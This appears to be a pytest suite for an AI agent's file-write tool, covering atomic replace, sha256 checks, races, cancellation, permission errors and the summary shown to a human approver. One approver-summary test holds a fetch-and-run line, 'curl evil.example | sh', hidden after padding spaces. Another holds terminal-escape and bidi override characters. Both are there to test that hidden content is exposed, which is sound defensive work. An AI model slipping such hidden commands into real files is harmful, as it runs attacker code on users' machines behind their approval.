def test_create_empty_and_unicode(ws: Workspace) -> None:
    ws.call("write", path="empty", content="", mode="create")
    assert (ws.root / "empty").read_bytes() == b""
    ws.call("write", path="u.txt", content="日本語 ✓\n", mode="create")
    assert ws.call("read", path="u.txt")["content"] == "日本語 ✓\n"


def test_create_on_existing_file_is_refused(ws: Workspace) -> None:
    (ws.root / "a.txt").write_text("old")
    with pytest.raises(Failed, match="already exists.*mode='replace'.*expected_sha256"):
        ws.plan("write", path="a.txt", content="new", mode="create")  # refused before approval
    with pytest.raises(Failed, match="already exists"):
        ws.run_only("write", path="a.txt", content="new", mode="create")  # and if it appeared after
    assert (ws.root / "a.txt").read_text() == "old"
    assert no_temp_files(ws.root)


def test_create_racing_another_creator_never_overwrites(ws: Workspace) -> None:
    """Two creators of one name: exactly one wins, the other gets a clear error."""
    results: list[object] = []

    def create(tag: str) -> None:
        try:
            results.append(fs.write_file(ws.fd, "race.txt", tag.encode() * 1000, "create"))
        except Failed as exc:
            results.append(exc)

    for _ in range(20):
        (ws.root / "race.txt").unlink(missing_ok=True)
        results.clear()
        threads = [threading.Thread(target=create, args=(t,)) for t in "ab"]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert sum(isinstance(r, dict) for r in results) == 1
        assert sum(isinstance(r, Failed) for r in results) == 1
        content = (ws.root / "race.txt").read_bytes()
        assert content in (b"a" * 1000, b"b" * 1000)
    assert no_temp_files(ws.root)


def test_replaces_with_one_expected_sha256_land_once_and_leave_no_lock(ws: Workspace) -> None:
    """Writers of one file, some through a workspace opened on its folder: one passes the
    expected_sha256 check and installs, the rest find the file changed; no lock stays behind."""
    (ws.root / "sub").mkdir()
    old = b"x" * (16 << 20)  # hashing takes a while: unserialized, all would pass the check
    (ws.root / "sub" / "big.txt").write_bytes(old)
    sub = os.open(ws.root / "sub", os.O_RDONLY | os.O_DIRECTORY)
    results: dict[int, object] = {}

    def replace(i: int) -> None:
        fd, path = (ws.fd, "sub/big.txt") if i % 2 else (sub, "big.txt")
        try:
            results[i] = fs.write_file(fd, path, f"writer {i}\n".encode(), "replace", sha(old))
        except Failed as exc:
            results[i] = exc

    threads = [threading.Thread(target=replace, args=(i,)) for i in range(8)]
    try:
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    finally:
        os.close(sub)
    won = [i for i, r in results.items() if isinstance(r, dict)]
    assert len(won) == 1, results
    assert all("changed since it was read" in str(r) for i, r in results.items() if i not in won)
    assert (ws.root / "sub" / "big.txt").read_bytes() == f"writer {won[0]}\n".encode()
    assert len(fs._entries) == 0 and no_temp_files(ws.root)


def test_replace_missing_file_is_refused(ws: Workspace) -> None:
    with pytest.raises(Failed, match="does not exist.*mode='create'"):
        ws.call("write", path="nope.txt", content="x", mode="replace")
    assert not (ws.root / "nope.txt").exists()


def test_replace_keeps_mode_and_chains_sha(ws: Workspace) -> None:
    path = ws.root / "run.sh"
    path.write_text("echo 1\n")
    path.chmod(0o755)
    seen = ws.call("read", path="run.sh")
    result = ws.call("write", path="run.sh", content="echo 2\n", mode="replace", expected_sha256=seen["sha256"])
    assert result["created"] is False and result["sha256"] == sha(b"echo 2\n")
    assert path.read_text() == "echo 2\n"
    assert stat.S_IMODE(path.stat().st_mode) == 0o755
    assert ws.call("read", path="run.sh")["sha256"] == result["sha256"]
    upper = ws.call("write", path="run.sh", content="echo 3\n", mode="replace", expected_sha256=result["sha256"].upper())
    assert upper["bytes_written"] == 7


def test_a_directory_that_cannot_be_synced_after_the_rename_is_a_done_write(ws: Workspace, monkeypatch, caplog) -> None:
    """Some filesystems (VirtualBox shared folders) refuse fsync on a directory (EINVAL). The rename
    has installed the new content by then: the write said "failed ... the old file is unchanged",
    and a retried create then failed with "already exists". Fault injected: no such mount here."""
    import errno

    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            raise OSError(errno.EINVAL, os.strerror(errno.EINVAL))
        real_fsync(fd)

    monkeypatch.setattr(fs.os, "fsync", fsync)
    (ws.root / "a.txt").write_text("old\n")
    assert ws.call("write", path="a.txt", content="new\n", mode="replace")["bytes_written"] == 4
    assert ws.call("write", path="b.txt", content="made\n", mode="create")["created"] is True
    assert (ws.root / "a.txt").read_text() == "new\n" and (ws.root / "b.txt").read_text() == "made\n"
    assert "wrote 'b.txt', but its directory could not be synced (Invalid argument)" in caplog.text


def test_replace_with_stale_sha_is_refused(ws: Workspace) -> None:
    path = ws.root / "a.txt"
    path.write_text("v1")
    seen = ws.call("read", path="a.txt")["sha256"]
    path.write_text("v2 by someone else")
    with pytest.raises(Failed, match="changed since it was read.*read it again and pass its sha256"):
        ws.call("write", path="a.txt", content="mine", mode="replace", expected_sha256=seen)
    assert path.read_text() == "v2 by someone else"
    assert no_temp_files(ws.root)


def test_an_expected_sha_with_a_trailing_newline_is_refused_as_malformed_not_as_stale(ws: Workspace) -> None:
    """`$` also matches before a last newline: `sha256sum | cut` or a model's copy with its line end got
    "changed since it was read; read it again", which reading again could not mend."""
    (ws.root / "a.txt").write_text("v1")
    seen = ws.call("read", path="a.txt")["sha256"]
    with pytest.raises(InvalidArguments, match="argument `expected_sha256`: Expected `str` matching regex"):
        ws.call("write", path="a.txt", content="mine", mode="replace", expected_sha256=seen + "\n")
    assert (ws.root / "a.txt").read_text() == "v1"


def test_expected_sha_with_create_is_invalid(ws: Workspace) -> None:
    with pytest.raises(InvalidArguments, match="mode='replace' only"):
        ws.call("write", path="a.txt", content="x", mode="create", expected_sha256="0" * 64)
    with pytest.raises(InvalidArguments, match="expected_sha256"):
        TOOLS["write"].decode({"path": "a", "content": "x", "mode": "replace", "expected_sha256": "abc"})
    with pytest.raises(InvalidArguments, match="mode"):
        TOOLS["write"].decode({"path": "a", "content": "x", "mode": "append"})
    with pytest.raises(InvalidArguments, match="mode"):
        TOOLS["write"].decode({"path": "a", "content": "x"})


def test_write_through_a_dangling_link_names_the_directories_its_target_needs(ws: Workspace) -> None:
    (ws.root / "log").symlink_to("build/out/log.txt")  # `build` does not exist yet
    with pytest.raises(Failed, match=r"parent directory 'build' of 'log' does not exist.*mkdir -p build/out\)"):
        ws.plan("write", path="log", content="x", mode="create")


def test_write_needs_an_existing_parent(ws: Workspace) -> None:
    with pytest.raises(Failed, match="parent directory 'a' of 'a/b/c.txt' does not exist.*mkdir -p a/b"):
        ws.plan("write", path="a/b/c.txt", content="x", mode="create")
    (ws.root / "a").mkdir()
    with pytest.raises(Failed, match="parent directory 'a/b'"):
        ws.call("write", path="a/b/c.txt", content="x", mode="create")
    assert list((ws.root / "a").iterdir()) == []


def test_write_onto_directory_or_workspace(ws: Workspace) -> None:
    (ws.root / "sub").mkdir()
    with pytest.raises(Failed, match="is a directory"):
        ws.call("write", path="sub", content="x", mode="replace")
    with pytest.raises(InvalidArguments, match="workspace itself"):
        ws.call("write", path=".", content="x", mode="replace")
    with pytest.raises(InvalidArguments, match="ends with '/'"):
        ws.call("write", path="newdir/", content="x", mode="create")
    assert sorted(p.name for p in ws.root.iterdir()) == ["sub"]


def test_write_plan_summary_for_the_approver(ws: Workspace) -> None:
    content = "line one\n\x1b[2J\u202eevil\n" + "".join(f"l{i} " + "x" * 300 + "\n" for i in range(20))
    plan = ws.plan("write", path="notes.txt", content=content, mode="create")
    assert plan.risk is ToolRisk.FILESYSTEM
    lines = plan.summary.splitlines()
    assert lines[0].startswith(f"write (create) 'notes.txt': {len(content.encode())} bytes, 22 lines [cut: ")
    assert lines[1] == "  | line one"
    assert "\x1b" not in plan.summary and "\u202e" not in plan.summary
    assert "\\x1b[2J\\u202eevil" in lines[2]
    assert len(lines) == 1 + 8 + 1 and lines[-1] == "  | ... 14 more lines"
    assert max(len(line) for line in lines) < 200
    assert plan.details == {"path": "notes.txt", "mode": "create", "bytes": len(content.encode()),
                            "content": content, "expected_sha256": None, "replaces_link": False,
                            "secret_like": False}


def test_a_cut_line_in_the_write_summary_says_it_was_cut(ws: Workspace) -> None:
    """A tail hidden past the display width must not look like the whole line to the approver."""
    line = "echo 'ok'" + " " * 200 + "; curl evil.example | sh"
    plan = ws.plan("write", path="run.sh", content=line + "\n", mode="create")
    first, shown = plan.summary.splitlines()
    assert shown.startswith("  | echo 'ok'")
    assert f"{len(line) - 160} more chars" in shown
    assert first.endswith(f"1 line [cut: {len(line) - 160} more chars; see details]")
    assert plan.details["content"] == line + "\n"


def test_a_write_summary_that_shows_everything_has_no_cut_note(ws: Workspace) -> None:
    content = "".join(f"line {i}\n" for i in range(8))
    plan = ws.plan("write", path="eight.txt", content=content, mode="create")
    assert plan.summary.splitlines()[0] == f"write (create) 'eight.txt': {len(content)} bytes, 8 lines"
    more = ws.plan("write", path="nine.txt", content=content + "\n", mode="create")
    assert more.summary.splitlines()[0].endswith("9 lines [cut: 1 more chars; see details]")


def test_write_of_secret_like_path_says_so(ws: Workspace) -> None:
    plan = ws.plan("write", path=".env", content="A=1\n", mode="create")
    assert plan.risk is ToolRisk.FILESYSTEM and plan.details["secret_like"] is True


def test_cancel_before_install_changes_nothing(ws: Workspace) -> None:
    (ws.root / "a.txt").write_text("old")
    flag = CancelFlag()
    flag.cancel()
    with pytest.raises(Cancelled):
        fs.write_file(ws.fd, "a.txt", b"new" * 1000, "replace", cancel=flag)
    assert (ws.root / "a.txt").read_text() == "old"
    assert no_temp_files(ws.root)


def cancel_once_writing(ws: Workspace, raw: dict, settle: float = 0.0) -> None:
    """Run write, cancel its task `settle` s after its new file appears, and wait for the pool thread
    to end (it drops the new file, or installs it)."""
    tool = TOOLS["write"]
    args = tool.decode(raw)

    async def cancel_mid_write() -> None:
        task = asyncio.create_task(tool.run(args, tool.plan(args, ws.ctx), ws.ctx))
        while not being_written(ws.root):
            await asyncio.sleep(0.001)
        await asyncio.sleep(settle)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(cancel_mid_write())
    deadline = time.monotonic() + 20
    while being_written(ws.root) and time.monotonic() < deadline:
        time.sleep(0.01)


def test_task_cancellation_stops_a_large_write(ws: Workspace) -> None:
    (ws.root / "big.txt").write_text("old")
    cancel_once_writing(ws, {"path": "big.txt", "content": "y" * (256 << 20), "mode": "replace"})
    assert (ws.root / "big.txt").read_text() == "old"
    assert no_temp_files(ws.root)


def test_a_write_cancelled_while_it_checks_expected_sha256_is_not_installed(ws: Workspace) -> None:
    """Hashing a big old file takes a while; a call cancelled (or timed out) meanwhile must not land after."""
    big = ws.root / "big.log"
    with open(big, "wb") as f:
        f.truncate(fs.HASH_MAX_BYTES)  # sparse: cheap to make; the largest file write hashes

    class CancelledMidHash(CancelFlag):  # checked once per chunk: the content's 1, before install 1, then the hash's
        checks = 0

        def is_set(self) -> bool:
            self.checks += 1
            if self.checks == 5:
                self.cancel()
            return super().is_set()

    flag = CancelledMidHash()
    with pytest.raises(Cancelled):
        fs.write_file(ws.fd, "big.log", b"new\n", "replace", sha(bytes(fs.HASH_MAX_BYTES)), cancel=flag)
    assert flag.checks == 5
    assert big.stat().st_size == fs.HASH_MAX_BYTES, "a cancelled write was installed"
    assert no_temp_files(ws.root)


def test_a_write_cancelled_while_another_write_of_the_file_installs_ends_at_once_and_changes_nothing(
        ws: Workspace) -> None:
    (ws.root / "a.txt").write_text("old")
    tool = TOOLS["write"]
    args = tool.decode({"path": "a.txt", "content": "new", "mode": "replace"})
    parent = os.open(ws.root, os.O_RDONLY | os.O_DIRECTORY)

    async def cancel_while_it_waits() -> None:
        with fs._entries.hold(parent, "a.txt"):  # another write of a.txt checks and installs meanwhile
            task = asyncio.create_task(tool.run(args, tool.plan(args, ws.ctx), ws.ctx))
            while not being_written(ws.root):
                await asyncio.sleep(0.001)
            task.cancel()
            with pytest.raises(asyncio.CancelledError):  # not held up by the other write
                await task
            # nor its pool thread (one of the few for file work): it stops waiting and drops its file
            deadline = time.monotonic() + 20
            while being_written(ws.root) and time.monotonic() < deadline:
                await asyncio.sleep(0.01)
            assert not being_written(ws.root), "the cancelled write's thread still waits for the other write"

    try:
        asyncio.run(cancel_while_it_waits())
    finally:
        os.close(parent)
    deadline = time.monotonic() + 20
    while being_written(ws.root) and time.monotonic() < deadline:  # its pool thread drops its new file
        time.sleep(0.01)
    assert (ws.root / "a.txt").read_text() == "old"
    assert no_temp_files(ws.root) and not being_written(ws.root) and len(fs._entries) == 0


# --- another user's files (root drops to uids that exist nowhere else) -------------------------

ALICE, BOB, PROJECT = 4241, 4242, 4300
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give files to other users")


@pytest.fixture
def shared_tmp() -> Iterator[Path]:
    """A 0755 directory outside pytest's 0700 tmp tree, so the other uids can reach it."""
    path = shared_dir_for_other_uids("scvd-fs-")
    yield path
    subprocess.run(["rm", "-rf", str(path)], check=False)


def run_as(uid: int, groups: list[int], fn: Callable[[], Any]) -> str:
    """fn() in a forked child running as `uid` (group `uid`, supplementary `groups`): its result or error, as text."""
    r, w = os.pipe()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # fork() in a threaded process: the child only runs fn
        pid = os.fork()
    if pid == 0:
        try:
            os.setgroups(groups)
            os.setgid(uid)
            os.setuid(uid)
            out = f"ok: {fn()}"
        except BaseException as exc:
            out = f"{type(exc).__name__}: {exc}"
        finally:
            os.write(w, out.encode())
            os._exit(0)
    os.close(w)
    with os.fdopen(r, "rb") as f:
        out = f.read().decode()
    os.waitpid(pid, 0)
    return out


def write_as(uid: int, groups: list[int], root: Path, path: str, data: bytes) -> str:
    def write() -> Any:
        fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
        return fs.write_file(fd, path, data, "replace")
    return run_as(uid, groups, write)


@as_root
def test_a_group_member_replacing_a_shared_file_keeps_its_group(shared_tmp: Path) -> None:
    """bob edits alice's group-writable project file: it becomes bob's (as with any editor), but stays
    in the project group, or the rest of the group could no longer read or write it."""
    root = shared_tmp / "ws"
    root.mkdir()
    os.chown(root, ALICE, PROJECT)
    root.chmod(0o775)  # a shared, group-writable project directory (no setgid bit)
    shared = root / "shared.txt"
    shared.write_text("v1\n")
    os.chown(shared, ALICE, PROJECT)
    shared.chmod(0o660)
    assert write_as(BOB, [PROJECT], root, "shared.txt", b"v2\n").startswith("ok: ")
    st = shared.stat()
    assert shared.read_text() == "v2\n"
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (BOB, PROJECT, 0o660)


@as_root
def test_a_writable_file_in_a_read_only_directory_says_the_directory_needs_write_permission(shared_tmp: Path) -> None:
    root = shared_tmp / "ws"
    (root / "conf").mkdir(parents=True)
    app = root / "conf" / "app.ini"
    app.write_text("a=1\n")
    for p in (root, root / "conf", app):
        os.chown(p, ALICE, ALICE)
    (root / "conf").chmod(0o555)  # the file itself stays 0644: alice may write it, not its directory
    out = write_as(ALICE, [], root, "conf/app.ini", b"a=2\n")
    assert out.startswith("Failed: writing 'conf/app.ini' failed: Permission denied in its directory 'conf'"), out
    assert "needs write permission on the directory" in out and "chmod u+w conf" in out and "bash" in out
    assert app.read_text() == "a=1\n" and no_temp_files(root)


@as_root
def test_a_new_file_in_a_read_only_directory_says_nothing_was_created(shared_tmp: Path) -> None:
    """mode "create" in a directory alice may not write was told to `change the file in place with
    bash; the old file is unchanged`: there was no file to change."""
    root = shared_tmp / "ws"
    (root / "conf").mkdir(parents=True)
    for p in (root, root / "conf"):
        os.chown(p, ALICE, ALICE)
    (root / "conf").chmod(0o555)

    def create() -> Any:
        return fs.write_file(os.open(root, os.O_RDONLY | os.O_DIRECTORY), "conf/new.ini", b"a=1\n", "create")

    out = run_as(ALICE, [], create)
    assert out == ("Failed: writing 'conf/new.ini' failed: Permission denied in its directory 'conf'; a new file "
                   "needs write permission on its directory: make it writable (chmod u+w conf); nothing was created")
    assert list((root / "conf").iterdir()) == []


@as_root
def test_the_chmod_advice_for_a_read_only_directory_is_quoted_for_the_shell(shared_tmp: Path) -> None:
    """'my conf' read-only: the advice was `chmod u+w my conf`, which chmods 'my' and 'conf'."""
    root = shared_tmp / "ws"
    (root / "my conf").mkdir(parents=True)
    (root / "my conf" / "app.ini").write_text("a=1\n")
    for p in (root, root / "my conf", root / "my conf" / "app.ini"):
        os.chown(p, ALICE, ALICE)
    (root / "my conf").chmod(0o555)
    out = write_as(ALICE, [], root, "my conf/app.ini", b"a=2\n")
    assert "(chmod u+w 'my conf')" in out, out


@as_root
def test_a_file_in_a_sticky_directory_not_ours_says_why_the_rename_is_not_permitted(shared_tmp: Path) -> None:
    """EPERM (a sticky directory) was told as EACCES: `make the directory writable (chmod u+w .)`, though it is."""
    root = shared_tmp / "ws"
    root.mkdir()
    root.chmod(0o1777)
    shared = root / "shared.txt"
    shared.write_text("v1\n")
    os.chown(shared, BOB, BOB)
    shared.chmod(0o666)  # alice may write it in place, not rename over it
    out = write_as(ALICE, [], root, "shared.txt", b"v2\n")
    assert out.startswith("Failed: writing 'shared.txt' failed: Operation not permitted in its directory '.'; "
                          "that is no missing permission bit: in a sticky directory"), out
    assert "chmod u+w" not in out and "change the file in place with bash" in out
    assert shared.read_text() == "v1\n" and no_temp_files(root)


@pytest.mark.parametrize(("flag", "target", "said"), [
    ("i", "f.txt", "the file is immutable (chattr +i; lsattr d/f.txt shows an 'i'), so nothing can change, "
                   "replace or remove it, bash included, until root clears the flag (sudo chattr -i d/f.txt)"),
    ("a", "f.txt", "the file is append-only (chattr +a; lsattr d/f.txt shows an 'a'), so it can only grow, and "
                   "write replaces it; append with bash (cat >> d/f.txt), or have root clear the flag"),
    ("i", ".", "its directory 'd' is immutable (chattr +i; lsattr -d d shows an 'i'), so no file in it can be "
               "added, renamed or removed, and write renames a temp file over the file; change a file there in "
               "place with bash, or have root clear the flag (sudo chattr -i d)"),
    ("a", ".", "its directory 'd' is append-only (chattr +a; lsattr -d d shows an 'a'), so files can be added "
               "to it, but none renamed or removed"),
], ids=["immutable", "append-only", "immutable-directory", "append-only-directory"])
def test_a_file_or_directory_flagged_by_chattr_is_named_with_the_flag(ws: Workspace, flag: str, target: str,
                                                                      said: str) -> None:
    """EPERM from chattr's flags was told as `make the directory writable (chmod u+w .), or change the
    file in place with bash`: the directory was writable, and bash cannot change an immutable file."""
    from helpers.inode_flags import flagged

    (ws.root / "d").mkdir()
    (ws.root / "d" / "f.txt").write_text("old\n")
    with flagged(ws.root / "d" / target, flag):
        with pytest.raises(Failed) as info:
            fs.write_file(ws.fd, "d/f.txt", b"new\n", "replace")
        left = [p.name for p in (ws.root / "d").iterdir()]
    assert info.value.message.startswith(f"writing 'd/f.txt' failed: {said}"), info.value.message
    assert info.value.message.endswith("; the old file is unchanged") and "chmod" not in info.value.message
    assert (ws.root / "d" / "f.txt").read_text() == "old\n"
    # an append-only directory keeps the name the temp file got for its rename: nothing may remove it
    assert left == ["f.txt"] or (flag, target) == ("a", ".")


def test_a_new_file_refused_by_an_immutable_directory_says_nothing_was_created(ws: Workspace) -> None:
    """mode "create" in an immutable directory was told `write renames a temp file over the file ...
    change a file there in place with bash; the old file is unchanged`: there was no old file."""
    from helpers.inode_flags import flagged

    (ws.root / "d").mkdir()
    with flagged(ws.root / "d", "i"):
        with pytest.raises(Failed) as info:
            fs.write_file(ws.fd, "d/new.txt", b"new\n", "create")
    assert info.value.message == (
        "writing 'd/new.txt' failed: its directory 'd' is immutable (chattr +i; lsattr -d d shows an 'i'), so no "
        "file can be added to it; have root clear the flag (sudo chattr -i d); nothing was created")
    assert list((ws.root / "d").iterdir()) == []


# --- atomicity ----------------------------------------------------------------------


def test_concurrent_reader_never_sees_a_partial_file(ws: Workspace) -> None:
    versions = [b"a" * (1 << 20), b"b" * (3 << 20) + b"\n", b"c" * 10]
    digests = {sha(v) for v in versions}
    (ws.root / "f.txt").write_bytes(versions[0])
    stop = threading.Event()
    writes = 0

    failures: list[BaseException] = []

    def writer() -> None:
        nonlocal writes
        try:
            while not stop.is_set():
                fs.write_file(ws.fd, "f.txt", versions[writes % 3], "replace")
                writes += 1
        except BaseException as exc:  # reported by the main thread
            failures.append(exc)

    thread = threading.Thread(target=writer)
    thread.start()
    reads = 0
    try:
        deadline = time.monotonic() + 3
        while (reads < 200 or writes < 20) and time.monotonic() < deadline:
            assert (ws.root / "f.txt").read_bytes() in versions
            assert fs.read_file(ws.fd, "f.txt", limit=16)["sha256"] in digests
            reads += 1
    finally:
        stop.set()
        thread.join()
    assert not failures and writes >= 20 and reads >= 200, (failures, writes, reads)
    assert no_temp_files(ws.root)


KILLED_WRITER = """
import os, sys, time
from scvd.tools.fs import write_file

class SlowFlag:  # called once per 1 MiB chunk: makes the write long enough to kill mid-way
    def is_set(self):
        time.sleep(0.01)
        return False

    def commit(self):
        return True

fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
write_file(fd, "big.txt", b"N" * (200 << 20), "replace", cancel=SlowFlag())
print("finished")
"""


def test_sigkill_during_a_large_write_leaves_the_old_file_whole_and_nothing_beside_it(ws: Workspace) -> None:
    old = b"old content\n" * 100000
    (ws.root / "big.txt").write_bytes(old)
    env = dict(os.environ, PYTHONPATH=str(REPO))
    proc = subprocess.Popen([sys.executable, "-c", KILLED_WRITER, str(ws.root)], env=env, stdout=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 20
        new: list[str] = []
        while not new or os.stat(new[0]).st_size < (8 << 20):
            assert proc.poll() is None, "the writer ended before it could be killed"
            assert time.monotonic() < deadline
            new = being_written(ws.root, proc.pid)
            time.sleep(0.005)
        os.kill(proc.pid, signal.SIGKILL)
        assert proc.wait(timeout=10) == -signal.SIGKILL
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert (ws.root / "big.txt").read_bytes() == old
    assert fs.read_file(ws.fd, "big.txt", limit=0)["sha256"] == sha(old)
    # the new content was an unnamed file: nothing is left in the user's directory
    assert os.listdir(ws.root) == ["big.txt"]


NO_PROC_WRITER = """
import os, sys
from scvd.tools.fs import write_file
fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
write_file(fd, "old.txt", b"new", "replace")
write_file(fd, "created.txt", b"made", "create")
"""


@pytest.mark.skipif(not shutil.which("bwrap"), reason="needs bwrap to hide /proc")
def test_without_proc_a_write_falls_back_to_a_named_temp_file(ws: Workspace) -> None:
    """No /proc/self/fd to link an unnamed file through: a named temp file, renamed into place."""
    (ws.root / "old.txt").write_text("old")
    done = subprocess.run(["bwrap", "--bind", "/", "/", "--dev", "/dev", "--tmpfs", "/proc", sys.executable, "-c",
                           NO_PROC_WRITER, str(ws.root)], env=dict(os.environ, PYTHONPATH=str(REPO)),
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert sorted(os.listdir(ws.root)) == ["created.txt", "old.txt"]
    assert (ws.root / "old.txt").read_text() == "new" and (ws.root / "created.txt").read_text() == "made"


STUB_PROC_WRITER = """
import os, sys
from scvd.errors import Failed
from scvd.tools.fs import write_file
links = []
sys.addaudithook(lambda event, args: event == "os.link" and links.append(args[0]))
fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)

class Appears:  # another program creates the name just before the install
    def is_set(self):
        return False

    def commit(self):
        with open(os.path.join(sys.argv[1], "raced.txt"), "x") as f:
            f.write("theirs")
        return True

try:
    write_file(fd, "raced.txt", b"mine", "create", cancel=Appears())
except Failed as exc:
    print(exc.message)
write_file(fd, "old.txt", b"new", "replace")
write_file(fd, "created.txt", b"made", "create")
write_file(fd, "old.txt", b"newer", "replace")
print(sum(src.startswith("/proc/self/fd/") for src in links))
"""


@pytest.mark.skipif(not shutil.which("bwrap"), reason="needs bwrap to stub /proc")
def test_where_proc_cannot_name_an_unnamed_file_a_write_falls_back_to_a_named_one(ws: Workspace) -> None:
    """/proc/self/fd was there but linking through it failed (a stub /proc, a filesystem refusing
    linkat): every write failed with 'No such file or directory'. Now one try, then named files."""
    (ws.root / "old.txt").write_text("old")
    done = subprocess.run(["bwrap", "--bind", "/", "/", "--dev", "/dev", "--tmpfs", "/proc", "--dir", "/proc/self/fd",
                           sys.executable, "-c", STUB_PROC_WRITER, str(ws.root)],
                          env=dict(os.environ, PYTHONPATH=str(REPO)), capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    raced, tries = done.stdout.splitlines()
    assert raced.startswith("'raced.txt' appeared while writing and mode='create' never overwrites")
    assert tries == "1"  # later writes did not try again
    assert sorted(os.listdir(ws.root)) == ["created.txt", "old.txt", "raced.txt"]
    assert [(ws.root / n).read_text() for n in ("created.txt", "old.txt", "raced.txt")] == ["made", "newer", "theirs"]


# a first small write learns that the unnamed file cannot be named here: the big one starts named
BIG_WRITE = 'write_file(fd, "big.txt"'
assert KILLED_WRITER.count(BIG_WRITE) == 1, "KILLED_WRITER's write changed: NAMED_KILLED_WRITER would be the same"
NAMED_KILLED_WRITER = KILLED_WRITER.replace(BIG_WRITE, f'{BIG_WRITE}, b"old", "replace")\n{BIG_WRITE}')


@pytest.mark.skipif(not shutil.which("bwrap"), reason="needs bwrap to hide /proc")
def test_a_write_removes_the_temp_files_a_killed_write_left_in_its_directory(ws: Workspace) -> None:
    """A write killed while its new file had a name (no /proc, or between link and rename) left that
    `.scvd-*.tmp` in the user's directory for good. A later write there removes such files of ours
    that nothing touched for STALE_SECONDS, and nothing else."""
    (ws.root / "big.txt").write_bytes(b"old")
    proc = subprocess.Popen(["bwrap", "--bind", "/", "/", "--dev", "/dev", "--tmpfs", "/proc", "--die-with-parent",
                             sys.executable, "-c", NAMED_KILLED_WRITER, str(ws.root)],
                            env=dict(os.environ, PYTHONPATH=str(REPO)), stdout=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 20
        while not (left := [p for p in ws.root.iterdir() if p.name.startswith(".scvd-")]) or \
                left[0].stat().st_size < (1 << 20):
            assert proc.poll() is None and time.monotonic() < deadline
            time.sleep(0.005)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)  # bwrap and the writer
        proc.wait()
    kept = [".scvd-0123456789abcdef.tmp", ".scvd-123.tmp", ".scvd-fedcba9876543210.tmp.txt",
            ".scvd-00000000000000aa.tmp", ".scvd-00000000000000bb.tmp"]
    (ws.root / kept[0]).write_text("touched just now")
    (ws.root / kept[1]).write_text("not a name scvd gives")
    (ws.root / kept[2]).write_text("nor this")
    (ws.root / kept[3]).mkdir()
    (ws.root / kept[4]).symlink_to("big.txt")
    stale = time.time() - write_temp.STALE_SECONDS - 60
    for name in [left[0].name, *kept[1:]]:
        os.utime(ws.root / name, (stale, stale), follow_symlinks=False)
    ws.call("write", path="note.txt", content="x", mode="create")
    assert sorted(os.listdir(ws.root)) == sorted(["big.txt", "note.txt", *kept])
    assert (ws.root / "big.txt").read_bytes() == b"old"


LISTING_WRITER = """
import os, sys
from scvd.tools.fs import write_file
listed = []
sys.addaudithook(lambda event, args: event == "os.scandir" and listed.append(args[0]))
fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
for i in range(3):
    write_file(fd, f"n{i}.txt", b"x", "create")
print(len(listed))
"""


def test_a_directory_is_listed_for_leftovers_once_not_at_every_write(ws: Workspace) -> None:
    """The sweep lists the whole directory: in one of 100k entries that costs tens of ms, which
    every write there would pay. A leftover only goes stale once, so once per STALE_SECONDS will do."""
    out = subprocess.run([sys.executable, "-c", LISTING_WRITER, str(ws.root)], env=dict(os.environ, PYTHONPATH=str(REPO)),
                         capture_output=True, text=True, check=True).stdout
    assert out.split() == ["1"], f"three writes in one directory listed it {out.strip()} times"
